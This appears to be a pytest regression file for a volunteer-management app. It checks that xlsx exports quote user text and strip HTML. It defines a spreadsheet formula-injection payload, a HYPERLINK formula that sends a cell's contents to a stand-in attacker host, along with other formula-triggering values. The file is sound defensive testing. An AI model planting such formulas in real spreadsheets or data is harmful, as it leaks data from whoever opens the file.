"""Every xlsx export writes user text as text: never a live formula, never HTML.

Regression for the outside test in which a volunteer named ``=HYPERLINK(...)`` (through the roster import or
the form) came out of the reward export as a live formula: the text prefix was applied to plain text
columns only, not to columns that show a related record. The audit-trail export carried HTML.
"""

import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest

from app.audit import record
from models.audit import AuditAction
from models.audit import AuditEntity
from models.enums import RewardStatus
from models.volunteer import RewardPayout
from tests.support.factories import make_case
from tests.support.factories import make_volunteer
from tests.support.factories import user

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'


def cells(response) -> list[openpyxl.cell.Cell]:
    assert response.status_code == 200, response.status_code
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_all_text(found) -> None:
    """No cell is a formula (a spreadsheet would run it); no cell carries the panel's own HTML."""
    formulas = [c.value for c in found if c.data_type == "f"]
    assert not formulas, formulas
    assert not [c.value for c in found if "<code" in str(c.value) or "<a href" in str(c.value)]


@pytest.fixture
def poisoned(db):
    """A volunteer, a case and a reward whose user-written text would be formulas."""
    volunteer = make_volunteer(FORMULA, "CA", phone="13700003333", notes="+SUM(1,2)")
    case = make_case(title=FORMULA, address="@SUM(1)")
    reward = RewardPayout(
        volunteer=volunteer, case=case, amount=Decimal(100), reason="-2+3", status=RewardStatus.PROPOSED
    )
    reward.proposed_by = user("clerk")
    db.session.add(reward)
    record(AuditEntity.VOLUNTEER, volunteer.id, AuditAction.UPDATE, user("admin"), {"name": "<b>x</b>"}, None)
    db.session.commit()
    return volunteer


@pytest.mark.parametrize(
    "role, url",
    [
        ("supervisor", "/admin/reward/export/xlsx/"),
        ("clerk", "/admin/case/export/xlsx/"),
        ("supervisor", "/admin/volunteer/export/xlsx/"),
        ("supervisor", "/admin/audit_log/export/xlsx/"),
    ],
)
def test_no_export_carries_a_formula_or_html(client, login_as, poisoned, role, url):
    login_as(role)
    found = cells(client.get(url))
    assert_all_text(found)


def test_the_related_volunteer_column_is_quoted_text(client, login_as, poisoned):
    """The column the outside test used: the reward's volunteer, a related record."""
    login_as("supervisor")
    found = cells(client.get("/admin/reward/export/xlsx/"))
    assert "'" + FORMULA in [c.value for c in found]


def test_the_audit_trail_exports_its_images_as_json_text(client, login_as, poisoned):
    login_as("supervisor")
    found = [str(c.value) for c in cells(client.get("/admin/audit_log/export/xlsx/"))]
    assert '{"name": "<b>x</b>"}' in found  # the before-image as JSON text, the user's text as it was
    assert not any("<code" in v for v in found)


def test_a_date_stays_readable(client, login_as, poisoned):
    login_as("supervisor")
    found = [str(c.value) for c in cells(client.get("/admin/volunteer/export/xlsx/"))]
    assert date(2025, 1, 1).isoformat() in "".join(found)
